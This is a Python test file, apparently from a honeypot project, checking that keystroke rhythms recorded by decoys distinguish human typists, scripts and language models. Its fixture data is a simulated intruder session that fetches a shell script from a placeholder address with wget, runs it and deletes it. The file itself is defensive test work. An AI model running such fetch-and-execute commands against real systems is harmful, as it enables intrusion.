# SPDX-License-Identifier: MIT
"""Who typed, from rhythms as the decoys count them: people, scripts and language models are told apart."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from decnet_core.events.typing_digest import BINS, TypingDigest, bin_of, bin_start
from decnet_decoys.evidence.recording import Recording
from decnet_decoys.evidence.typing_rhythm import TypingRhythm, rhythm_in
from decnet_models.attackers.typists import typist

LINES = ("uname -a", "cat /proc/cpuinfo", "cd /tmp", "wget http://198.51.100.1/x.sh", "sh x.sh", "rm x.sh")

Pieces = list[tuple[float, str]]


def person(dice: random.Random) -> Pieces:
    """Keys with the spread of a hand's, a correction now and then, and time to read."""
    now, pieces = 0.0, Pieces()
    for line in LINES:
        now += dice.uniform(0.8, 6)
        for key in line:
            now += dice.lognormvariate(-2, 0.5)
            pieces.append((now, key))
            if dice.random() < 0.03:
                pieces += [(now + 0.2, "x"), (now + 0.5, "\x7f")]
                now += 0.5
        pieces.append((now + 0.3, "\r"))
        now += 0.3
    return pieces


def script(dice: random.Random) -> Pieces:
    """All lines as fast as the other side takes them."""
    return [(0.02 * n + dice.uniform(0, 0.01), f"{line}\n") for n, line in enumerate(LINES)]


def waiting_script(_: random.Random) -> Pieces:
    return [(2.0 * n, f"{line}\n") for n, line in enumerate(LINES)]


def keyed_script(_: random.Random) -> Pieces:
    return [(0.05 * n, key) for n, key in enumerate("\r".join(LINES))]


def language_model(dice: random.Random) -> Pieces:
    now, pieces = 0.0, Pieces()
    for line in LINES:
        now += dice.uniform(1.5, 12)
        pieces.append((now, f"{line}\n"))
    return pieces


def digest_of(pieces: Pieces) -> TypingDigest:
    rhythm = TypingRhythm()
    for moment, text in pieces:
        rhythm.typed(moment, text)
    found = rhythm.digest()
    assert found is not None
    return found


@pytest.mark.parametrize("seed", range(5))
@pytest.mark.parametrize(
    ("who", "name"),
    [
        (person, "person"),
        (script, "script"),
        (waiting_script, "script"),
        (keyed_script, "script"),
        (language_model, "language model"),
    ],
)
def test_who_typed_is_told_by_the_rhythm(who: object, name: str, seed: int) -> None:
    assert callable(who)
    found = typist(digest_of(who(random.Random(seed))))
    assert found is not None
    assert found.name == name, found


def test_too_little_tells_nothing() -> None:
    assert typist(digest_of([(0, "id\n")])) is None
    assert typist(TypingDigest(keys=20)) is None


def test_a_killed_session_has_the_rhythm_that_its_recording_has(tmp_path: Path) -> None:
    file = tmp_path / "x.cast"
    recording = Recording(file, columns=80, rows=24, started=1, terminal="xterm", limit_bytes=1 << 20)
    recording.shown(0.0, b"$ ")
    for moment, text in person(random.Random(1)):
        recording.typed(moment, text.encode())
        recording.shown(moment, text.encode())
    recording.close()
    assert rhythm_in(file) == recording.rhythm.digest()
    assert rhythm_in(tmp_path / "none.cast") is None


def test_bins_double_and_the_last_is_open() -> None:
    assert [bin_of(seconds) for seconds in (-1, 0, 0.0079, 0.008, 0.016, 0.1, 1.0, 1e9)] == [0, 0, 0, 1, 2, 4, 7, 15]
    assert [bin_of(bin_start(number)) for number in range(BINS)] == list(range(BINS))
